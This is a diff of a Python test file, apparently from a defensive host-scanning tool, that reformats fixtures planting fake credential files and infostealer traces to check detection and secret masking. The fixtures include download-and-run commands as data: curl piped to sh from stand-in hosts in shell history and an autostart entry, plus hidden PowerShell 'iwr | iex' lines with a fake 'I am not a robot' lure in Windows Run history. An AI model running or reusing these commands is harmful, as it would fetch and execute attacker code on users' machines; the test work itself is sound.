@@ -41,28 +41,33 @@ PLANTED = {
     f"{HOME}/.ssh/id_ed25519": openssh_unencrypted_with_marker(),
     f"{HOME}/.ssh/id_ecdsa": f"-----BEGIN EC PRIVATE KEY-----\nMHcCAQEE{MARKER}\n-----END EC PRIVATE KEY-----\n",
     f"{HOME}/.ssh/id_pkcs8": f"-----BEGIN PRIVATE KEY-----\nMC4CAQAw{MARKER}\n-----END PRIVATE KEY-----\n",
-    f"{HOME}/.config/filezilla/sitemanager.xml":
-        f'<FileZilla3><Servers><Server><Host>ftp.example</Host><User>{MARKER}</User>'
-        f'<Pass encoding="base64">{B64}</Pass></Server></Servers></FileZilla3>',
+    f"{HOME}/.config/filezilla/sitemanager.xml": (
+        f"<FileZilla3><Servers><Server><Host>ftp.example</Host><User>{MARKER}</User>"
+        f'<Pass encoding="base64">{B64}</Pass></Server></Servers></FileZilla3>'
+    ),
     f"{HOME}/.config/filezilla/recentservers.xml": f'<Server><Pass encoding="base64">{B64}</Pass></Server>',
     f"{HOME}/.bash_history": f"ls\nmysql -uroot -p{MARKER}\ncurl -fsSL http://203.0.113.9/i?t={MARKER} | sh\n",
     f"{HOME}/.zsh_history": f": 1700000000:0;export TOKEN={MARKER}\n",
     f"{HOME}/.bashrc": f"export DB_PASSWORD={MARKER}\nalias ll='ls -l'\nnohup ~/.x{MARKER}/agent &\n",
     f"{HOME}/.profile": f"export API_KEY={MARKER}\n",
-    f"{HOME}/.config/systemd/user/sync.service":
-        f"[Service]\nEnvironment=API_TOKEN={MARKER}\nExecStart=/usr/bin/restic backup --password {MARKER}\n",
+    f"{HOME}/.config/systemd/user/sync.service": (
+        f"[Service]\nEnvironment=API_TOKEN={MARKER}\nExecStart=/usr/bin/restic backup --password {MARKER}\n"
+    ),
     f"{HOME}/.config/systemd/user/evil.service": f"[Service]\nExecStart=/tmp/.{MARKER}/run\n",
-    f"{HOME}/.config/autostart/upd.desktop":
-        f"[Desktop Entry]\nExec=sh -c \"curl -s https://example.invalid/{MARKER} | sh\"\n",
+    f"{HOME}/.config/autostart/upd.desktop": (
+        f'[Desktop Entry]\nExec=sh -c "curl -s https://example.invalid/{MARKER} | sh"\n'
+    ),
     f"{HOME}/.git-credentials": f"https://alice:{MARKER}@example.invalid\n",
     f"{HOME}/.aws/credentials": f"[default]\naws_secret_access_key={MARKER}\n",
     f"{HOME}/.config/gh/hosts.yml": f"github.com:\n  oauth_token: {MARKER}\n",
     f"{HOME}/Documents/credentials/vpn.txt": MARKER,
-    f"{HOME}/.mozilla/firefox/ab.default/logins.json":
-        json.dumps({"logins": [{"hostname": f"https://{MARKER}.example", "encryptedPassword": MARKER}]}),
+    f"{HOME}/.mozilla/firefox/ab.default/logins.json": json.dumps(
+        {"logins": [{"hostname": f"https://{MARKER}.example", "encryptedPassword": MARKER}]}
+    ),
     f"{HOME}/.mozilla/firefox/profiles.ini": "[Profile0]\nName=default\nIsRelative=1\nPath=ab.default\n",
-    f"{HOME}/.config/google-chrome/Local State":
-        json.dumps({"profile": {"info_cache": {"Default": {"gaia_name": MARKER, "user_name": f"{MARKER}@x.fr"}}}}),
+    f"{HOME}/.config/google-chrome/Local State": json.dumps(
+        {"profile": {"info_cache": {"Default": {"gaia_name": MARKER, "user_name": f"{MARKER}@x.fr"}}}}
+    ),
 }
 
 
@@ -84,8 +89,10 @@ def home(tmp_path):  # type: ignore[no-untyped-def]
 
 
 def statuses(host) -> dict[str, tuple[str, str]]:  # type: ignore[no-untyped-def]
-    return {r.check_id: (r.status.value, r.summary_key)
-            for r in run_assessment(host, check_timeout=30, check_ids=CHECKS).results}
+    return {
+        r.check_id: (r.status.value, r.summary_key)
+        for r in run_assessment(host, check_timeout=30, check_ids=CHECKS).results
+    }
 
 
 def test_every_planted_file_belongs_to_a_secret_source():
@@ -97,8 +104,13 @@ def test_every_planted_file_belongs_to_a_secret_source():
 def test_text_rules_of_redacted_sources_have_a_sample_they_match():
     redacted = {name for src in sources()[0] + sources()[1] for name in src.rules}
     for rule in load_rules():
-        if rule.kind == "text" and rule.source in redacted and "linux" in rule.os or rule.source in (
-                "shell_history", "ps_history") and rule.kind == "text":
+        if (
+            rule.kind == "text"
+            and rule.source in redacted
+            and "linux" in rule.os
+            or rule.source in ("shell_history", "ps_history")
+            and rule.kind == "text"
+        ):
             assert rule.sample and rule.text_hit(rule.sample), rule.id
 
 
@@ -114,11 +126,15 @@ def test_collect_keeps_no_marker_and_replays_to_the_same_verdicts(home):
 
 
 def test_collect_replay_of_an_old_recording_with_secrets_scrubs_them(tmp_path):
-    rec = {"format": "clinicguard-host", "version": 1, "platform": "linux", "hostname": "pc",
-           "user": {"name": "alice", "home": HOME},
-           "files": {path: {"text": data if isinstance(data, str) else data.decode()}
-                     for path, data in PLANTED.items()},
-           "commands": [{"argv": ["crontab", "-l"], "returncode": 0, "stdout": f"0 1 * * * x -p{MARKER}\n"}]}
+    rec = {
+        "format": "clinicguard-host",
+        "version": 1,
+        "platform": "linux",
+        "hostname": "pc",
+        "user": {"name": "alice", "home": HOME},
+        "files": {path: {"text": data if isinstance(data, str) else data.decode()} for path, data in PLANTED.items()},
+        "commands": [{"argv": ["crontab", "-l"], "returncode": 0, "stdout": f"0 1 * * * x -p{MARKER}\n"}],
+    }
     src = tmp_path / "old.json"
     src.write_text(json.dumps(rec), encoding="utf-8")
     out = tmp_path / "new.json"
@@ -180,8 +196,13 @@ def test_launch_agent_keeps_only_the_indicator_it_matched(tmp_path):
 
     from tests.support.infostealer_fixtures import scan
 
-    agent = plistlib.dumps({"Label": "com.apple.updater", "ProgramArguments": ["/tmp/.u/run", "--token", MARKER],
-                            "EnvironmentVariables": {"API_KEY": MARKER}})
+    agent = plistlib.dumps(
+        {
+            "Label": "com.apple.updater",
+            "ProgramArguments": ["/tmp/.u/run", "--token", MARKER],
+            "EnvironmentVariables": {"API_KEY": MARKER},
+        }
+    )
     put(tmp_path, "/Users/alice/Library/LaunchAgents/com.apple.updater.plist", agent)
     host = TreeHost(tmp_path, "macos")
     live = {h.rule for h in scan(host, time_budget=5).hits}
@@ -196,8 +217,15 @@ def test_winscp_registry_passwords_keep_presence_only():
     from clinicguard.collect.masking import anonymize
 
     key = "HKCU\\Software\\Martin Prikryl\\WinSCP 2\\Sessions\\ftp%40srv"
-    data = anonymize({"format": "clinicguard-host", "platform": "windows", "hostname": "pc", "user": {"name": "x"},
-                      "registry": {key: {"values": {"Password": MARKER, "HostName": "srv.example"}}}})
+    data = anonymize(
+        {
+            "format": "clinicguard-host",
+            "platform": "windows",
+            "hostname": "pc",
+            "user": {"name": "x"},
+            "registry": {key: {"values": {"Password": MARKER, "HostName": "srv.example"}}},
+        }
+    )
     (values,) = [e["values"] for e in data["registry"].values()]
     assert values["Password"] == "********" and values["HostName"] == "srv.example"
 
@@ -221,14 +249,20 @@ def test_no_marker_in_the_dashboard_rows_and_details(home):
 RUNMRU_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU"
 TYPEDPATHS_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\TypedPaths"
 TYPED = {
-    RUNMRU_KEY: {"values": {
-        "a": f"mysql -uroot -p{MARKER}\\1",
-        "b": f'powershell -w hidden -c "iwr http://x.example/{MARKER} | iex" # I am not a robot - ID {MARKER}\\1',
-        "c": f"calc\u2003\u2003\u2003\u2003# {MARKER}\\1",
-        "MRUList": "abc"}},
-    TYPEDPATHS_KEY: {"values": {
-        "url1": f"\\\\{MARKER}.example\\share",
-        "url2": f'powershell -c "iwr https://x.example/{MARKER} | iex" # C:\\HR\\{MARKER}.docx'}},
+    RUNMRU_KEY: {
+        "values": {
+            "a": f"mysql -uroot -p{MARKER}\\1",
+            "b": f'powershell -w hidden -c "iwr http://x.example/{MARKER} | iex" # I am not a robot - ID {MARKER}\\1',
+            "c": f"calc\u2003\u2003\u2003\u2003# {MARKER}\\1",
+            "MRUList": "abc",
+        }
+    },
+    TYPEDPATHS_KEY: {
+        "values": {
+            "url1": f"\\\\{MARKER}.example\\share",
+            "url2": f'powershell -c "iwr https://x.example/{MARKER} | iex" # C:\\HR\\{MARKER}.docx',
+        }
+    },
 }
 
 
@@ -245,7 +279,8 @@ def test_run_box_and_explorer_address_bar_keep_only_the_matched_indicators(tmp_p
     replayed = RecordedHost(json.loads(text))
     assert rules_hit(scan(replayed)) == live
     assert {r.check_id: r.status for r in run_assessment(replayed, check_timeout=30, check_ids=CHECKS).results} == {
-        r.check_id: r.status for r in run_assessment(host, check_timeout=30, check_ids=CHECKS).results}
+        r.check_id: r.status for r in run_assessment(host, check_timeout=30, check_ids=CHECKS).results
+    }
 
 
 def test_text_rules_of_redacted_registry_values_have_a_sample_that_hits_only_its_own_source():
